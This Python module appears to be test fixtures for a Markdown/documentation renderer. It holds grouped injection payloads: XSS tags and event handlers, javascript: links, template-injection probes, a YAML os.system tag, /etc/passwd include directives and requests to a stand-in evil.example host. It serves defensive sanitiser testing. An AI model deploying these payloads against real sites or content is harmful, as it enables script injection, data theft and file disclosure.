"""Texts that try to become more than text: markup, links, directives, templates, and characters that end lines.

Each calls `alert` or asks `evil.example` for something if it gets through, or names what it would do.
"""

from __future__ import annotations

EVIL = "https://evil.example/x"

TAGS = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<script\x09>alert(1)</script>", "<script/x>alert(1)</script>", "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img src=x onerror='alert(1)'>", '<img src="x" onerror="alert(1)">',
    "<img/src/onerror=alert(1)>", "<IMG SRC=javascript:alert(1)>", "<img src=https://evil.example/x.png>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>", "<a href=javascript:alert(1)>click</a>", "<a href='data:text/html,<script>'>x</a>",
    "<base href=https://evil.example/>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<style>@import 'https://evil.example/x.css';</style>",
    "<form action=https://evil.example/><button autofocus>x</button></form>",
    "<button formaction=javascript:alert(1)>", "<table background=https://evil.example/x.png>",
    "<div style='background:url(https://evil.example/x.png)'>", "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img src=x onerror=alert(1)></textarea>", "</textarea><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext>", "<details><summary>x", "</div></div></article>",
    "<div markdown=1>[x](javascript:alert(1))</div>", "<div markdown='1'>\x60x\x60</div>",
    "<custom-tag onclick=alert(1)>",
]  # fmt: skip
SVG_AND_MATHML = [
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>", "<svg><use href=data:image/svg+xml,x#y>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>", "</title><img src=x onerror=alert(1)>",
    "</text><script>alert(1)</script>", "</desc></svg><img src=x onerror=alert(1)>",
    "<svg><style>*{x:url(//evil.example)}", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "</math><img src=x onerror=alert(1)>", "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype='statusline#https://evil.example/'>x",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>", "url(#x) href=\"#x id=\"x\" #a10001",
]  # fmt: skip
BREAKERS = [
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover="alert(1)',
    "' onfocus='alert(1)' x='", '" autofocus onfocus="alert(1)', "</p><script>alert(1)</script><p>",
    "</a><img src=x onerror=alert(1)>", "--><script>alert(1)</script><!--", "<!--><script>alert(1)</script>",
    "--!><img src=x onerror=alert(1)>", "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?>", "<!DOCTYPE x [", "</style><script>alert(1)</script>", "</head><body onload=alert(1)>",
    "</code></pre><script>alert(1)</script>", "</details></table><img src=x onerror=alert(1)>",
    '\\"><script>alert(1)</script>', "\\' onerror=alert(1)", '"]}<script>alert(1)</script>',
    '", "page": "javascript:alert(1)', "*/alert(1)/*", "';alert(1)//", "\x60;alert(1)//",
]  # fmt: skip
ENTITIES = [
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;svg onload=alert(1)&#x3e;", "&amp;lt;script&amp;gt;alert(1)", "&lt;img src=x onerror=alert(1)&gt;",
    "&quot; onload=&quot;alert(1)", "&NewLine;&Tab;&colon;", "java&#115;cript:alert(1)", "&#0;&#1;&#xd800;&#x110000;",
    "&", "&copy", "&;&#;&#x;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)",
    "\\x3cscript\\x3ealert(1)",
]  # fmt: skip
LINKS = [
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)", "[x](java\tscript:alert(1))", "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))", "[x](vbscript:x)", "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](//evil.example)", "[x](file:///etc/passwd)", "[x](blob:null/x)",
    "[x](https://evil.example/\" onmouseover=\"alert(1))", "[x](https://evil.example/ \"onmouseover=alert(1)\")",
    "[x](https://evil.example/'\"><img/src/onerror=alert(1)>)", "[x](#\" onclick=\"alert(1))",
    "[x](#x){: onclick=alert(1) }", "[<img src=x onerror=alert(1)>](https://evil.example)", f"![x]({EVIL}.png)",
    "![x](x){: onerror=alert(1) }", "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    f"[![x]({EVIL}.png)](javascript:alert(1))", "![x](x \"y\" onerror=alert(1))", "<javascript:alert(1)>",
    f"<{EVIL}>", "<x@evil.example>", "[r]: javascript:alert(1)", f"[r]: {EVIL} \"t\"", "[x][r]", "[r]", "![x][r]",
    "[^1]", "[^1]: <script>alert(1)</script>", "*[HTML]: <script>alert(1)</script>",
    "[x](\x60javascript:alert(1)\x60)",
]  # fmt: skip
MARKDOWN = [
    "{: onclick=alert(1) }", "{: #x .y onclick=alert(1) style=x }", "{#x onclick=alert(1)}",
    "x {: href=javascript:alert(1) }", "!!! note \"<script>alert(1)</script>\"", "??? x", "=== \"tab\"", ":::",
    "::: os", "::: os.path", "# ::: os", "###### ::: os", "::: implementations.architectures.evil",
    "/// html | script", "/// x\nalert(1)\n///", "--8<-- \"/etc/passwd\"", "-8<- \"/etc/passwd\"", ";--8<--",
    "{!/etc/passwd!}", "[TOC]", "[[x]]", "```", "````", "`````", "``````````", "~~~", "~~~~~~", "```python\nx\n```",
    "\x60" * 500, "\x60\x60x\x60", "<!-- md:x -->", "***", "---", "===", "# x", "- x", "1. x", "> x", "    code",
    "\tcode", "a | b", "|-|-|", "Term\n:   x", "[ ] x", "- [x] y", "==x==", "^^x^^", "~~x~~", "++ctrl++", ":smile:",
    "~x~", "\\", "\\\\", "\\`", "*", "**x", "_", "__x__", "$", "$$", "$x", "x$", "$$x$$", "[", "![", "](", ")", "<",
    ">", "|", "kb:lstm",
]  # fmt: skip
TEMPLATES = [
    "{{ 7191 * 6113 }}", "{{7*'7'}}", "{% raw %}", "{% include '/etc/passwd' %}", "{# x #}", "{## x ##}",
    "{{ config }}", "${7*191}", "{{ base.root }}", "{{ ''.__class__.__mro__ }}", "{% for x in y %}", "#{7*191}",
    "<%= 7*191 %>", "{0.__class__}", "%s%n", "{citation}", "%(x)s", "\\1\\g<0>",
]  # fmt: skip
FRONT_MATTER = [
    "---", "...", "--- x", "---\ntitle: x\n---", "x: y", "- x", "? x", "& x", "* x",
    "!!python/object/apply:os.system [x]", "!ENV PATH", '"', "'", '"}', '", "template": "evil.html', "\\", "\\U0001",
    "@", "%YAML 1.2", "{x: y}", "[x]", "null", "true", "0x10",
]  # fmt: skip
LATEX = [
    "\\href{javascript:alert(1)}{x}", "$\\href{javascript:alert(1)}{x}$", "$\\htmlData{onclick=alert(1)}{x}$",
    "$\\class{x}{y}$", "$\\style{background:url(https://evil.example)}{x}$",
    "$\\includegraphics{https://evil.example/x}$", "$\\text{<script>alert(1)</script>}$",
    "$<img src=x onerror=alert(1)>$", "$\\mathrm{</mi><script>alert(1)</script>}$",
    "\\text{</math><img src=x onerror=alert(1)>}", "\\mathrm{\"onload=\"alert(1)}", "x_{<b>}^{&lt;b&gt;}",
    "\\unicode{x3c}", "\\input{/etc/passwd}", "$\\verb|<b>|$", "\\#\\&\\%", "\\operatorname{<svg/onload=alert(1)>}",
    "}, note={\\input{x}}, y={",
]  # fmt: skip
CHARACTERS = [
    "\x00", "a\x00b", "\x01", "\x02wzxhzdk:0\x03", "\x02klzzwxh:0001\x03", "\x02\x02", "\x07", "\x08", "\x0b", "\x0c",
    "\x0e\x0f", "\x1b[31mred", "\x1b]0;title\x07", "\x1c\x1d\x1e\x1f", "\x7f", "\x7f ![x](x){: onerror=alert(1) }",
    "\x80", "\x85", "\x9b31m", "\x85---\x85", "\u2028---\u2028x", "\u2029...\u2029", "\u2028alert(1)", "\ufeff",
    "\ufffe", "\uffff", "\ufff9x\ufffay\ufffb", "\u202ealert\u202c", "\u2066x\u2069", "\u200ex\u200f", "\u061cx",
    "x\r", "x\r::: os", "x\r\r::: os\r    options:\r      x: y", "x\r```\r\r<script>alert(1)</script>",
    "x\r---\r<script>alert(1)</script>", "x\r\r# y {: onclick=alert(1) }", "x\r\nscript", ":\x02:: os", "`\x02``",
    "jav\x02ascript:alert(1)", "<\x00script>alert(1)</script>", "[x](java\x00script:alert(1))",
    "[x](java\x7fscript:alert(1))", "x\x0b::: os", "x\x0c::: os", "x\x1c<script>alert(1)</script>",
    "\U0001d400\U0001f600", "\u0301\u0301", "ﬀ", "İ", "ß", "\u200b\u200c\u200d", "\u00a0",
    "＜script＞alert(1)＜/script＞", "‹script›", "x" * 500,
]  # fmt: skip

PAYLOADS = list(
    dict.fromkeys(
        payload
        for group in (
            TAGS, SVG_AND_MATHML, BREAKERS, ENTITIES, LINKS, MARKDOWN, TEMPLATES, FRONT_MATTER, LATEX, CHARACTERS
        )
        for payload in group
    )
)  # fmt: skip
